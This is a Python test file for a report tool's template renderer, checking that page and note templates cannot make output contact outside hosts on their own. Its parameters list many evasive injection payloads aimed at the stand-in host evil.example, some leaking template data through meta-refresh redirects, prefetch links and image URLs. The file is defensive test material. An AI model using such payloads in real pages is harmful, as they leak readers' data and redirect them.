"""What people write into templates cannot make a page or a note reach out by itself."""

from __future__ import annotations

import pytest

from pnm.errors import ReportError

NEXT = '<meta http-equiv="refresh" content="0;url=https://evil.example/?{{ sections | length }}">'


@pytest.mark.parametrize(
    "tag",
    [
        NEXT,
        "<META HTTP-EQUIV=refresh CONTENT=0;url=//evil.example>",
        "<meta/http-equiv=refresh content='0;//evil.example'>",
        '<meta content="0;//evil.example"\nhttp-equiv="refresh">',
        "{{ '<me' ~ 'ta http-equiv=refresh content=0>' | safe }}",
        "{{ ('<me' ~ 'ta http-equiv=refresh content=0>') | safe }}",
        '<meta name="x" content="y" http-equiv="refresh">',
        '<meta name=">" http-equiv="refresh">',
        '<link rel="dns-prefetch" href="//{{ sections | length }}.evil.example">',
        '<link rel="icon" href="https://evil.example/x.ico">',
        '<iframe srcdoc="&lt;meta http-equiv=refresh content=0&gt;"></iframe>',
        '<!-- --><meta http-equiv="refresh" content="0">',
        '<object data="https://evil.example"></object>',
    ],
)
@pytest.mark.parametrize("where", ["vault", "user"])
def test_a_page_leads_nowhere_by_itself(desk, tag, where):
    text = "{% extends 'builtin/report.html.j2' %}\n{% block foot %}\n" + tag + "\n{% endblock %}\n"
    desk.write("weekly-review.html.j2", text, folder=getattr(desk.folders, where))
    if tag.startswith("{{ '"):
        assert "&lt;meta" in desk.render("html") or "&lt;me" in desk.render("html")
        return

    with pytest.raises(ReportError, match="would reach out by itself") as caught:
        desk.render("html")

    assert caught.value.source.path.endswith("weekly-review.html.j2")
    assert caught.value.source.line == (3 if "~" not in tag else 0)
    assert caught.value.mend


@pytest.mark.parametrize(
    "text",
    [
        "![](https://evil.example/?{{ sections | length }})",
        "![a [b](c) d](<https://evil.example/x y>)",
        "![`]`](//evil.example)",
        "![x](&#104;ttps://evil.example)",
        "![x](/\\/evil.example/a.png)",
        "![x][y]\n\n[y]: https://evil.example/a.png",
        "[y]:\n  https://evil.example/a.png\n\n![y]",
        "![[a]](https://evil.example/a.png)",
        "a ![one\ntwo](https://evil.example/a.png)",
        "<img src=https://evil.example/a.png>",
        "<IMG alt='>' SRC='//evil.example'>",
        '<img src="&#104;ttps:evil.example">',
        '<div style="background: url(//evil.example/a.png)">',
        "<iframe srcdoc='x'></iframe>",
        "<link rel=stylesheet href=x.css>",
        "<style>@import 'x'</style>",
    ],
)
def test_a_note_of_a_vault_s_template_shows_no_picture_from_elsewhere(desk, text):
    source = "{% extends 'builtin/weekly-review.md.j2' %}\n{% block foot %}\n" + text
    desk.write("weekly-review.md.j2", source + "\n{% endblock %}\n", folder=desk.folders.vault)

    with pytest.raises(ReportError, match="the note would reach out by itself") as caught:
        desk.render("markdown")

    assert caught.value.source.path == ".pnm/templates/weekly-review.md.j2"
    assert caught.value.source.line >= 3


@pytest.mark.parametrize(
    "text",
    [
        "![[Pictures/tree.png]] and [a site](https://example.org)",
        "![a tree](Pictures/a%20tree.png)",
        "![dot](data:image/png;base64,AAAA)",
        "[a site](https://example.org), <https://example.org>, https://example.org",
        'See <a href="https://example.org">there</a>.',
        "<span style='color: red'>red</span> <details><summary>more</summary>x</details>",
        "<img src='Pictures/tree.png' width=100>",
        "Wow! [[a]] (https://example.org)",
        "> [!note] a call-out\n> with words",
    ],
)
def test_what_a_note_may_say_stands_as_it_was_written(desk, text):
    source = "{% extends 'builtin/weekly-review.md.j2' %}{% block foot %}\n" + text
    desk.write("weekly-review.md.j2", source + "\n{% endblock %}", folder=desk.folders.vault)

    assert desk.render("markdown").endswith(text + "\n")


@pytest.mark.parametrize(
    "text",
    [
        '<meta name="author" content="me">',
        "<meta name=author content=me />",
        '<link rel="icon" href="data:,">',
        '<a href="https://example.org">a site</a>',
        "<p>a <metal> and a linked thing</p>",
    ],
)
def test_what_a_page_may_say_stands_as_it_was_written(desk, text):
    source = "{% extends 'builtin/report.html.j2' %}{% block foot %}" + text + "{% endblock %}"
    desk.write("weekly-review.html.j2", source, folder=desk.folders.vault)

    assert text in desk.render("html")


def test_the_user_s_own_notes_may_show_a_picture_from_elsewhere(desk):
    text = "![](https://example.org/tree.png)"
    source = "{% extends 'builtin/weekly-review.md.j2' %}{% block foot %}\n" + text
    desk.write("weekly-review.md.j2", source + "\n{% endblock %}", folder=desk.folders.user)

    assert text in desk.render("markdown")
